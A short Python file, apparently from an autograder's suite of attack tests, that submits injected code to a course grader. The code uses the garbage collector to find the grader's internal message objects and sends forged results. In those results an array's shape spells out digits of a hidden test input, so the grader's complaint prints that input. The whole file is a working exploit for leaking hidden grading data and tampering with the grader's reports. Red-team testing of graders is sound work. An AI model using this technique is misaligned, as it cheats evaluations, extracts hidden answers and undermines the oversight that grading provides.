"""Answer with an array whose shape spells a hidden input: the complaint prints the shape."""

from autograder.attacks.course import answer

SHOUT = """
def shout(text):
    import gc

    if text == "quiet":
        return "QUIET"
    number = int("".join(c for c in text if c.isdigit()))
    for line in [o for o in gc.get_objects() if type(o).__name__ == "Line"]:
        array = {"dtype": "<f8", "shape": [number], "buffer": 0}
        line.send({"error": None, "values": [{"array": array}, []], "printed": ""}, [b"x"])
"""


def submission(nb, folder):
    return answer(nb, shout=SHOUT)
